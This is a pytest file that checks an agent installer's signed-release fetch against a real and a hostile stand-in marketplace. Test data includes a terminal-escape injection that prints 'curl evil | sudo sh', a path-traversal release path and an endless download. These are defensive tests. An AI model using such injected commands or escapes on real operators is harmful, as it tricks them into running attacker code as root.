"""The first install takes the marketplace's signed release:
install.sh's fetch_release against the local marketplace over real HTTP (and
against a hostile stand-in of it), its signature checked by the real openssl.
A release the pinned key did not sign is refused before a byte of its wheel is
fetched; a wheel that is not the signed one is never handed to pip.
(The whole line on a Debian chroot: tests/integration/test_install_marketplace_line.py.)
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import shlex
import subprocess
import sys
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from support.install_script import INSTALL_SH

from gpuhost_agent.local_marketplace.install_release import InstallRelease, build_wheel, running_checkout
from gpuhost_agent.local_marketplace.releases import Release
from gpuhost_agent.local_marketplace.server import build_app
from gpuhost_agent.local_marketplace.state import MarketplaceState
from gpuhost_agent.local_marketplace.store import Store
from gpuhost_agent.protocol import release_signature, wire, wire_time
from gpuhost_agent.protocol.release_signature import Signed

ROOT = Path(__file__).resolve().parents[2]
WHEEL = "gpuhost_agent-9.9.9-py3-none-any.whl"
BUILD_LOCK = "setuptools==80.9.0 \\\n    --hash=sha256:" + "1" * 64 + "\n"
AGENT_LOCK = "aiohttp==3.12.15 \\\n    --hash=sha256:" + "2" * 64 + "\n"


def _wheel(folder: Path, version: str = "9.9.9") -> Path:
    """A small wheel of the agent as a release is one: its metadata and its two locks."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as made:
        made.writestr(f"gpuhost_agent-{version}.dist-info/METADATA", f"Name: gpuhost-agent\nVersion: {version}\n")
        made.writestr("gpuhost_agent/__init__.py", f'__version__ = "{version}"\n')
        made.writestr("gpuhost_agent/build.lock", BUILD_LOCK)
        made.writestr("gpuhost_agent/agent.lock", AGENT_LOCK)
    path = folder / f"gpuhost_agent-{version}-py3-none-any.whl"
    path.write_bytes(body.getvalue())
    return path


def _fetch(url: str, api_key: str, pinned: str, version: str = "") -> subprocess.CompletedProcess:
    """install.sh's fetch_release as the line runs it (no checkout, the key pinned), then
    what it chose for pip: the wheel and the locks."""
    settings = {"URL": url, "API_KEY": api_key, "SIGNED_BY": pinned, "VERSION": version}
    program = (
        f'source <(sed "$ d" {shlex.quote(str(INSTALL_SH))})\nTMP=$(mktemp -d)\ntrap \'rm -rf "$TMP"\' EXIT\n'
        "STARTED_AT=$(now_iso)\n"
        + "".join(f"{name}={shlex.quote(value)}\n" for name, value in settings.items())
        + 'fetch_release\necho "source: $(basename "$SOURCE") $(sha256sum <"$SOURCE")"\n'
        + 'echo "version: $VERSION"\necho "pinned: ${RELEASE_KEY:-}"\ncat "$LOCK/build.lock" "$LOCK/agent.lock"\n'
    )
    return subprocess.run(["bash", "-c", program], capture_output=True, text=True, timeout=60)


def _recording(app: web.Application) -> list[str]:
    asked: list[str] = []

    async def record(request: web.Request, _response: web.StreamResponse) -> None:
        asked.append(request.path)

    app.on_response_prepare.append(record)
    return asked


async def _serving(app: web.Application) -> tuple[TestServer, str]:
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    return server, f"http://127.0.0.1:{server.port}/v1"


async def test_the_line_installs_the_release_the_marketplace_signed_with_the_locks_inside_it(tmp_path: Path) -> None:
    store = Store.load_or_create(None)
    state = MarketplaceState(store)
    release = await asyncio.to_thread(lambda: Release.of_wheel(_wheel(tmp_path)))
    state.install_release = InstallRelease(lambda: release, None, tmp_path / "built")
    app = build_app(state)
    asked = _recording(app)
    server, url = await _serving(app)
    try:
        done = await asyncio.to_thread(_fetch, url, store.envApiKey, state.release_public_key())
        assert done.returncode == 0, done.stderr
        assert f"source: {WHEEL} {release.sha256}" in done.stdout
        assert "version: 9.9.9" in done.stdout
        assert done.stdout.endswith(BUILD_LOCK + AGENT_LOCK)  # the locks the signature covers, not <url>/install's
        assert asked == ["/v1/agent/release", f"/v1/agent/releases/{WHEEL}"]

        # Another key pinned on the host: the marketplace's word is not enough, and no byte of the wheel is fetched.
        asked.clear()
        other = release_signature.public_text(release_signature.new_private().public_key())
        refused = await asyncio.to_thread(_fetch, url, store.envApiKey, other)
        assert refused.returncode == 1 and "source:" not in refused.stdout
        assert f"release 9.9.9 is not signed with the release key pinned for this host ({other})" in refused.stderr
        assert asked == ["/v1/agent/release", "/v1/agent/init-state"], asked  # and the marketplace is told

        # A version the operator did not ask for.
        asked.clear()
        wrong = await asyncio.to_thread(_fetch, url, store.envApiKey, state.release_public_key(), "9.9.8")
        assert wrong.returncode == 1 and "offers release 9.9.9, not the --version 9.9.8" in wrong.stderr
        assert f"/v1/agent/releases/{WHEEL}" not in asked
        assert store.host["initState"]["state"] == "failed"
    finally:
        await server.close()


ENDLESS = b""  # served as a wheel: a chunked answer (no length) that never ends


def _hostile_market(offer: dict, served: bytes) -> tuple[web.Application, list[str]]:
    """A marketplace that offers `offer` and serves `served` as its wheel."""

    async def get_offer(_request: web.Request) -> web.Response:
        return web.json_response(offer)

    async def get_wheel(request: web.Request) -> web.StreamResponse:
        if served is not ENDLESS:
            return web.Response(body=served, content_type="application/octet-stream")
        answer = web.StreamResponse()
        answer.enable_chunked_encoding()
        await answer.prepare(request)
        try:
            while True:  # until install.sh stops reading
                await answer.write(b"x" * 65536)
        except (ConnectionError, RuntimeError):
            return answer

    app = web.Application()
    app.add_routes([web.get("/v1/agent/release", get_offer), web.get("/v1/agent/releases/{file}", get_wheel)])
    return app, _recording(app)


async def _fetched_from_hostile(offer: dict, served: bytes, key) -> tuple[subprocess.CompletedProcess, list[str]]:
    """fetch_release against _hostile_market, with `key`'s public half pinned; and the paths asked."""
    app, asked = _hostile_market(offer, served)
    server, url = await _serving(app)
    try:
        done = await asyncio.to_thread(_fetch, url, "env-key", release_signature.public_text(key.public_key()))
    finally:
        await server.close()
    return done, asked


@pytest.mark.parametrize(
    ("case", "said"),
    [
        ("unsigned", "signature is missing"),
        ("signed-for-another-version", "is not signed with the release key"),
        ("signed-until-later", "is not signed with the release key"),
        ("void", "was void after 2020-01-01T00:00:00Z"),
        ("naming-a-next-key-it-did-not-sign", "is not signed with the release key"),
        ("signed-for-another-file", "is not signed with the release key"),
        ("a-path-elsewhere", "path is not /agent/releases/gpuhost_agent-<version>-py3-none-any.whl"),
        ("damaged-wheel", f"{WHEEL} is not the file the signature names"),
        ("larger-than-signed", "cannot fetch"),
        ("endless-without-a-length", "cannot fetch"),  # curl's --max-filesize alone let it run 600 s
    ],
)
async def test_a_release_the_pinned_key_did_not_sign_is_never_handed_to_pip(
    tmp_path: Path, case: str, said: str
) -> None:
    key = release_signature.new_private()
    body = await asyncio.to_thread(lambda: _wheel(tmp_path).read_bytes())
    sha256, size = hashlib.sha256(body).hexdigest(), len(body)
    not_after = release_signature.void_after(wire_time.utcnow() + timedelta(days=1))
    offer = {"version": "9.9.9", "path": f"/agent/releases/{WHEEL}", "sha256": sha256, "size": size}
    offer |= {"notAfter": not_after, "signature": release_signature.sign(key, Signed("9.9.9", sha256, size, not_after))}
    served = body
    if case == "unsigned":
        del offer["signature"]
    elif case == "signed-for-another-version":  # an old release's signature, replayed under a new version
        offer["signature"] = release_signature.sign(key, Signed("9.9.8", sha256, size, not_after))
    elif case == "signed-until-later":  # a void offer's moment pushed on
        offer["notAfter"] = "2099-01-01T00:00:00Z"
    elif case == "void":  # a copy of an offer made long ago
        offer["notAfter"] = "2020-01-01T00:00:00Z"
        offer["signature"] = release_signature.sign(key, Signed("9.9.9", sha256, size, "2020-01-01T00:00:00Z"))
    elif case == "naming-a-next-key-it-did-not-sign":
        offer["nextKey"] = release_signature.public_text(release_signature.new_private().public_key())
    elif case == "signed-for-another-file":
        offer["sha256"] = "0" * 64
    elif case == "a-path-elsewhere":
        offer["path"] = "/agent/releases/../../evil/" + WHEEL
    elif case == "damaged-wheel":
        served = body[:-1] + bytes([body[-1] ^ 1])
    elif case == "larger-than-signed":
        served = body + b"x" * 4096
    elif case == "endless-without-a-length":
        served = ENDLESS
    done, asked = await _fetched_from_hostile(offer, served, key)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert said in done.stderr
    assert "source:" not in done.stdout
    fetched = f"/v1/agent/releases/{WHEEL}" in asked
    assert fetched == (case in ("damaged-wheel", "larger-than-signed", "endless-without-a-length")), asked


async def test_the_local_marketplace_offers_its_checkout_built_once_to_the_environment_alone(tmp_path: Path) -> None:
    store = Store.load_or_create(None)
    state = MarketplaceState(store)
    checkout = await asyncio.to_thread(running_checkout)
    assert checkout == ROOT
    state.install_release = InstallRelease(lambda: state.release, checkout, tmp_path / "built")
    async with TestClient(TestServer(build_app(state))) as http:
        assert (await http.get("/v1/agent/release")).status == 401  # the environment's key, as every agent call
        key = {wire.API_KEY_HEADER: store.envApiKey}
        answers = await asyncio.gather(*(http.get("/v1/agent/release", headers=key) for _ in range(3)))
        offers = [await answer.json() for answer in answers]
        assert all(answer.status == 200 for answer in answers) and offers[0] == offers[1] == offers[2]
        offer = offers[0]
        built = await asyncio.to_thread(lambda: list((tmp_path / "built").glob("*.whl")))
        assert len(built) == 1  # one build for the three askers
        public = state.release_public_key()
        signed = Signed(offer["version"], offer["sha256"], offer["size"], offer["notAfter"])
        assert release_signature.verifies(public, offer["signature"], signed)
        wheel = await (await http.get("/v1" + offer["path"], headers=key)).read()
        assert hashlib.sha256(wheel).hexdigest() == offer["sha256"] and len(wheel) == offer["size"]
        with zipfile.ZipFile(io.BytesIO(wheel)) as inside:
            for name in ("build.lock", "agent.lock"):  # the locks ride in the release, under its signature
                locked = await asyncio.to_thread((ROOT / "requirements" / name).read_bytes)
                assert inside.read(f"gpuhost_agent/{name}") == locked

        state.install_release = InstallRelease(lambda: None, None, tmp_path / "none")  # an agent installed from a wheel
        missing = await http.get("/v1/agent/release", headers=key)
        assert missing.status == 404 and "GPUHOST_LOCAL_RELEASE_WHEEL" in (await missing.json())["message"]


def test_a_broken_checkout_says_what_pip_said(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("this is not toml [")
    with pytest.raises(RuntimeError, match="building the agent's wheel from .* failed"):
        build_wheel(tmp_path, tmp_path / "out")


def test_without_a_checkout_install_sh_takes_the_signed_release_and_never_a_name_on_the_index(tmp_path: Path) -> None:
    """The line runs install.sh with no checkout beside it: it installs the marketplace's
    release, signed with the key the line gives, or the one pinned before; with neither,
    it stops and says what to pass, where it used to install `gpuhost-agent` by name."""
    key = release_signature.public_text(release_signature.new_private().public_key())
    pinned = release_signature.public_text(release_signature.new_private().public_key())
    (tmp_path / "release-key.pub").write_text(pinned + "\n")
    settings = "URL=https://market.example/v1 ENV_ID=env-1 API_KEY=k CHECKOUT="

    def resolved(extra: str, key_file: str = "/nonexistent") -> subprocess.CompletedProcess:
        pinned_at = shlex.quote(f"s|^readonly RELEASE_KEY_FILE=.*|RELEASE_KEY_FILE={key_file}|")
        program = (
            f'source <(sed -e "$ d" -e {pinned_at} {shlex.quote(str(INSTALL_SH))})\n'
            f"{settings} {extra}\nresolve_settings\n"
            'echo "from-release=$FROM_RELEASE signed-by=$SIGNED_BY source=$SOURCE lock=$LOCK"'
        )
        return subprocess.run(["bash", "-c", program], capture_output=True, text=True)

    line = resolved(f"RELEASE_KEY={key}")
    assert line.stdout.strip() == f"from-release=1 signed-by={key} source=the marketplace's signed release lock="
    again = resolved("", key_file=str(tmp_path / "release-key.pub"))  # a second run, the key pinned by the first
    assert f"from-release=1 signed-by={pinned} " in again.stdout
    nothing = resolved("")
    assert nothing.returncode == 2 and "needs the key it is signed with: --release-key" in nothing.stderr
    named = resolved("SOURCE=gpuhost-agent")  # the operator's own choice, said in so many words
    assert (
        named.stdout.strip() == "from-release=0 signed-by= source=gpuhost-agent lock=https://market.example/v1/install"
    )
    with_lock = resolved(f"RELEASE_KEY={key} LOCK=/srv/locks")
    assert with_lock.returncode == 2 and "--lock is not for the marketplace's release" in with_lock.stderr


async def test_a_release_the_pinned_key_signed_naming_the_next_key_pins_that_one(tmp_path: Path) -> None:
    """The marketplace moves to a new release key: the line may still carry the old
    one, and install.sh pins the key the old one named, as the agent follows it."""
    key, following = release_signature.new_private(), release_signature.new_private()
    next_key = release_signature.public_text(following.public_key())
    body = await asyncio.to_thread(lambda: _wheel(tmp_path).read_bytes())
    sha256, size = hashlib.sha256(body).hexdigest(), len(body)
    not_after = release_signature.void_after(wire_time.utcnow() + timedelta(days=1))
    offer = {"version": "9.9.9", "path": f"/agent/releases/{WHEEL}", "sha256": sha256, "size": size}
    offer |= {"notAfter": not_after, "nextKey": next_key}
    offer["signature"] = release_signature.sign(key, Signed("9.9.9", sha256, size, not_after, next_key))
    done, _asked = await _fetched_from_hostile(offer, body, key)
    assert done.returncode == 0, done.stderr
    assert f"pinned: {next_key}" in done.stdout


def _installed(tmp_path: Path, version: str, keys: dict | None = None, failed: tuple[str, ...] = ()) -> dict[str, str]:
    """An installed agent as install.sh finds it on a second run: its venv (this
    checkout's Python, and a `gpuhost-agent version` that says `version`) and its
    state (upgrade.json: the release keys it followed, the versions that failed)."""
    from gpuhost_agent.storage import upgrade_state

    venv, state = tmp_path / "venv", tmp_path / "state"
    (venv / "bin").mkdir(parents=True)
    (venv / "bin" / "python").write_text(f'#!/bin/sh\nexec {shlex.quote(sys.executable)} "$@"\n')
    (venv / "bin" / "gpuhost-agent").write_text(f"#!/bin/sh\necho {version}\n")
    for program in (venv / "bin").iterdir():
        program.chmod(0o755)
    record = {**upgrade_state.empty(), "keys": keys, "failed": [{"version": v} for v in failed]}
    upgrade_state.save(state, record)
    return {"VENV": str(venv), "STATE_DIR": str(state)}


def _script_with(paths: dict[str, str]) -> str:
    """install.sh's definitions with its root paths moved under the test's own folder."""
    moved = " ".join(f"-e {shlex.quote(f's|^readonly {name}=.*|{name}={value}|')}" for name, value in paths.items())
    return f'source <(sed -e "$ d" {moved} {shlex.quote(str(INSTALL_SH))})\n'


def test_a_second_run_verifies_with_the_key_the_agent_moved_to_and_pins_it(tmp_path: Path) -> None:
    """install.sh cleared upgrade.json and took the pin
    it had, so a re-run (the documented upgrade) went back to a key the marketplace had
    left, leaked or not. It now asks the installed agent which key it follows."""
    from gpuhost_agent.core import release_keys
    from gpuhost_agent.protocol.wire_release import ReleaseOffer

    old, new = release_signature.new_private(), release_signature.new_private()
    old_key, new_key = (release_signature.public_text(key.public_key()) for key in (old, new))
    not_after = release_signature.void_after(wire_time.utcnow() + timedelta(days=1))
    signed = Signed("0.1.0", "ab" * 32, 1, not_after, new_key)
    step = ReleaseOffer(
        "0.1.0", "/agent/releases/x.whl", "ab" * 32, 1, release_signature.sign(old, signed), not_after, new_key
    )
    paths = _installed(tmp_path, "0.1.0", keys=release_keys.with_step(None, old_key, step))
    program = _script_with(paths) + (
        "URL=https://market.example/v1 ENV_ID=env-1 API_KEY=k CHECKOUT= RELEASE_KEY={key}\nresolve_settings\n"
        'echo "signed-by=$SIGNED_BY pinned=$RELEASE_KEY"'
    )
    line = subprocess.run(["bash", "-c", program.format(key=old_key)], capture_output=True, text=True)
    assert line.stdout.strip().endswith(f"signed-by={new_key} pinned={new_key}"), (line.stdout, line.stderr)
    other = release_signature.public_text(release_signature.new_private().public_key())  # the operator's own new pin
    line = subprocess.run(["bash", "-c", program.format(key=other)], capture_output=True, text=True)
    assert line.stdout.strip() == f"signed-by={other} pinned={other}", line.stderr


def test_the_line_never_takes_a_host_back(tmp_path: Path) -> None:
    """What the installed agent would refuse of an offer, install.sh refuses of the
    marketplace's release: an older version, or one that failed here (fetch_release
    takes it when --version names it)."""
    paths = _installed(tmp_path, "9.9.9", failed=("9.10.0",))
    for offered, said in (
        ("9.9.8", "version 9.9.8 is not newer than 9.9.9"),
        ("9.10.0", "failed here before"),
        ("9.10.0.0", "failed here before"),  # one version however spelled
        ("9.9.9", ""),
        ("9.10.1", ""),
        # sort -V put these after 9.9.9; the agent (PEP 440) does not take them
        ("9.9.9rc1", "version 9.9.9rc1 is not a release"),
        ("9.9.9.dev3", "version 9.9.9.dev3 is not a release"),
        ("9.9.9+local", "version 9.9.9+local is not a release"),
    ):
        program = _script_with(paths) + f'backwards=$(not_forward {offered})\necho "[$backwards]"'
        done = subprocess.run(["bash", "-c", program], capture_output=True, text=True)
        assert done.stdout.strip() == f"[{said}]", (offered, done.stdout, done.stderr)


async def test_what_a_marketplace_answers_never_reaches_the_operators_terminal_as_escapes() -> None:
    """A refused answer was quoted raw; terminal escapes in it set the
    window's title, cleared the screen and printed a line of the marketplace's choosing."""

    async def get_offer(request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse()
        answer.enable_chunked_encoding()  # no length: curl reads it up to the cap
        await answer.prepare(request)
        await answer.write(b"\x1b]0;PWNED\x07\x1b[2J\x1b[31mrun: curl evil | sudo sh\x1b[0m\n" + b" " * 70000)
        return answer

    app = web.Application()
    app.add_routes([web.get("/v1/agent/release", get_offer)])
    server, url = await _serving(app)
    try:
        key = release_signature.public_text(release_signature.new_private().public_key())
        done = await asyncio.to_thread(_fetch, url, "env-key", key)
    finally:
        await server.close()
    assert done.returncode == 1 and "cannot get the marketplace's release" in done.stderr, done.stderr
    assert "?]0;PWNED??[2J?[31mrun: curl evil | sudo sh?[0m?" in done.stderr
    assert not any(ord(c) < 32 and c != "\n" for c in done.stdout + done.stderr), repr(done.stderr[:300])
